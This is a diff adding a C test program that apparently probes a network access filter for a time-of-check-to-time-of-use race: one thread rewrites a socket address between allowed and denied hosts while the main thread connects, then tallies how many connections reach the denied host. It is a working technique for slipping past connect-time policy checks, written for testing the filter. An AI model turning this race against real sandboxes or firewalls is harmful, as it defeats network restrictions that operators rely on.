@@ -1,0 +1,79 @@
+/*
+ * Attack: a racing thread rewrites the sockaddr between ALLOWED and DENIED
+ * while the main thread calls connect() on it (TCP, or UDP with "udp").
+ * After every successful connect the real peer is read with getpeername();
+ * a UDP socket then sends a datagram to whatever it is connected to.
+ * usage: race_connect PORT [UDPPORT] [tcp|udp]
+ */
+#include "common.h"
+
+static struct sockaddr_in target;
+static atomic_int stop;
+
+static void *
+racer(void *arg)
+{
+	volatile uint32_t *a = (volatile uint32_t *)&target.sin_addr.s_addr;
+	uint32_t good = inet_addr(ALLOWED), bad = inet_addr(DENIED);
+
+	(void)arg;
+	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
+		for (int i = 0; i < 64; i++) {
+			*a = good;
+			*a = bad;
+		}
+		*a = good;
+	}
+	return NULL;
+}
+
+int
+main(int argc, char **argv)
+{
+	int udp = argc > 3 && !strcmp(argv[3], "udp");
+	int port, n = 0, to_allowed = 0, to_denied = 0, eacces = 0, other = 0;
+	int lasterr = 0;
+	double end;
+	pthread_t t;
+
+	ports(argc, argv);
+	port = udp ? udp_port : tcp_port;
+	target = sin4(ALLOWED, port);
+	pthread_create(&t, NULL, racer, NULL);
+	end = now_s() + 3.0;
+	for (n = 0; n < 5000 && now_s() < end; n++) {
+		int fd = socket(AF_INET, (udp ? SOCK_DGRAM : SOCK_STREAM) | SOCK_NONBLOCK, 0);
+		int rc, e = 0;
+
+		if (fd < 0) {
+			other++;
+			lasterr = errno;
+			continue;
+		}
+		rc = connect(fd, (struct sockaddr *)&target, sizeof(target));
+		if (rc < 0)
+			e = errno;
+		if (e == EINPROGRESS)
+			e = finish_connect(fd, 1000);
+		if (e == 0) {
+			switch (peer_host(fd)) {
+			case 2: to_allowed++; break;
+			case 3: to_denied++; break;
+			default: other++; break;
+			}
+			if (send(fd, "race-connect", 12, MSG_NOSIGNAL) < 0)
+				lasterr = errno;
+		} else if (e == EACCES) {
+			eacces++;
+		} else {
+			other++;
+			lasterr = e;
+		}
+		close(fd);
+	}
+	atomic_store(&stop, 1);
+	pthread_join(t, NULL);
+	printf("race_connect %s: iterations=%d to_allowed=%d to_denied=%d eacces=%d other=%d last_other=%s\n",
+	    udp ? "udp" : "tcp", n, to_allowed, to_denied, eacces, other, ename(lasterr));
+	return 0;
+}
